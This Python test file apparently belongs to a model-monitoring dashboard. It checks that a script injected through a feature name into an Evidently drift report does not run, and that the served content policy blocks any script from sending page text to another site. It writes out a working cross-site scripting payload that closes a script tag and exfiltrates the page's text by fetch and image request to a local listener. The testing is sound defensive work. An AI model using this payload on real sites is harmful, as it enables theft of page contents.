"""evidently's drift report as served: a script in a feature name (evidently writes column
names unescaped inside its own ``<script>``) does not run, the report still draws, and
under the policy it is served with a script that did run could send nothing to another
site."""

from __future__ import annotations

import contextlib
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import update

from tests.dashboard.scenario import Served
from tests.dashboard.test_browser import Session, _login, browser  # noqa: F401 (a fixture)
from tests.tunewatch.conftest import MODEL, Clock, feed
from tunewatch._auth import hash_token, new_token
from tunewatch._background import BackgroundServer
from tunewatch._config import build_config
from tunewatch._daemon import Daemon
from tunewatch._example import ExampleModel
from tunewatch.store._schema import models

pytestmark = pytest.mark.browser

WINDOW = 200  # a small window: evidently's build stays quick


class Listener:
    """Another site on loopback: records the path of every request that reaches it
    (before answering it)."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        paths = self.paths

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                paths.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, format: str, *args: Any) -> None:
                pass  # the requests are recorded in `paths`

        self.server = HTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"


@pytest.fixture
def listener() -> Iterator[Listener]:
    site = Listener()
    thread = threading.Thread(target=site.server.serve_forever, daemon=True)
    thread.start()
    try:
        yield site
    finally:
        site.server.shutdown()
        site.server.server_close()
        thread.join()


def leak_script(site: str) -> str:
    """A script that sends the page's text to ``site`` by ``fetch`` and by an image, then
    marks on the page, once both have settled, whether the fetch went out."""
    leak = f"'{site}/leak?t='+encodeURIComponent(document.body.innerText.slice(0,80))"
    return (
        "Promise.all(["
        f"fetch({leak},{{mode:'no-cors'}}).then(()=>'sent',()=>'refused'),"
        f"new Promise(r=>{{const i=new Image();i.onload=i.onerror=r;i.src={leak}}})"
        "]).then(([f])=>{document.documentElement.dataset.leak=f})"
    )


def injected_name(site: str) -> str:
    """A feature name that would close evidently's script and run :func:`leak_script`."""
    return f"x0</script><script>{leak_script(site)}</script>"


@pytest.fixture
def report_of(
    browser: Any,  # noqa: F811 (the imported fixture)
    trained: list[ExampleModel],
    tmp_path: Path,
) -> Iterator[Callable[[str], Session]]:
    """Open, as a viewer, the drift report of a champion whose first feature is named as
    given (the others ``x1``...), with a stored drift verdict of a small window."""
    login = contextlib.contextmanager(_login)
    with contextlib.ExitStack() as stack:

        def open_report(first_feature: str) -> Session:
            champion = trained[0]
            names = (first_feature, *champion.metadata.feature_names[1:])
            window = {"window_rows": WINDOW}
            config = build_config(
                {
                    "data_dir": str(tmp_path),
                    "scheduler": {"enabled": False},
                    "tuning": {"workers": 0},
                    "models": [{"name": MODEL, "task": "binary", "evaluation": window}],
                },
                env={},
            )
            d = Daemon(config, env={})
            stack.callback(d.close)
            d.registry.register(
                MODEL,
                champion.onnx,
                champion.metadata,
                actor="test",
                stage="champion",
                reference=champion.reference,
            )
            # as a release before feature names were limited to 200 printable characters
            # stored them (a longer name is refused at registration now; one stored
            # before is kept, and reports still draw it)
            with d.store.engine.begin() as conn:
                conn.execute(
                    update(models).where(models.c.name == MODEL).values(feature_names=list(names))
                )
            clock = Clock()
            d.evaluator.clock = clock
            feed(d, clock, 0, WINDOW, shift=0.0, seed=4)
            drift = {r.kind: r for r in d.evaluator.evaluate(MODEL)}["drift"]
            assert drift.status == "ok"
            token = new_token()
            d.store.add_token(
                name="viewer", role="viewer", token_hash=hash_token(token), actor="test"
            )
            server = stack.enter_context(BackgroundServer(d.app))
            served = Served(daemon=d, server=server, tokens={"viewer": token})
            viewer = stack.enter_context(login(browser, served, "viewer"))
            response = viewer.open(f"/dashboard/models/{MODEL}/drift/{drift.id}/report")
            assert response.status == 200
            return viewer

        yield open_report


def test_a_script_in_a_feature_name_does_not_run_and_the_report_draws(
    report_of: Callable[[str], Session], listener: Listener
) -> None:
    """The script ran (sandboxed; the policy kept it from sending the report's text to
    another site, which it did three times under the policy before) and the report drew
    no plot: each ``<`` of a name now reaches evidently made inert."""
    viewer = report_of(injected_name(listener.url))
    page = viewer.page
    page.wait_for_function("() => document.querySelectorAll('td canvas').length > 0")
    assert page.evaluate("() => document.documentElement.dataset.leak") is None
    assert "x0<" in page.locator("body").inner_text()  # the name is shown
    assert listener.paths == []
    assert viewer.errors == []


def test_a_script_that_runs_in_the_report_sends_nothing_to_another_site(
    report_of: Callable[[str], Session], listener: Listener
) -> None:
    """The policy is a second line: a script running in the report (here evaluated in the
    page, under its policy) may fetch nothing, and load images only inline."""
    viewer = report_of("x0")
    page = viewer.page
    page.evaluate(leak_script(listener.url))
    page.wait_for_function("() => document.documentElement.dataset.leak")  # both settled
    assert page.evaluate("() => document.documentElement.dataset.leak") == "refused"
    assert listener.paths == []


def test_a_report_draws_its_plots_without_console_errors_under_its_policy(
    report_of: Callable[[str], Session],
) -> None:
    """evidently's report loads nothing over the network (its scripts, styles, fonts and
    images are inline) and draws as it did before the policy: a distribution per column
    for the reference and the window (canvases), and a column's plot when expanded."""
    viewer = report_of("x0")
    page = viewer.page
    columns = 9  # 8 features and the prediction
    page.wait_for_function(f"() => document.querySelectorAll('td canvas').length == {2 * columns}")
    page.locator("td svg").first.click()  # expand the first column
    page.wait_for_function("() => document.querySelectorAll('.js-plotly-plot .main-svg').length")
    assert "Drifted Columns" in page.locator("body").inner_text()
    loaded = page.evaluate("() => performance.getEntriesByType('resource').map(e => e.name)")
    assert [url for url in loaded if not url.endswith("/favicon.ico")] == []  # the browser's
    assert viewer.errors == []
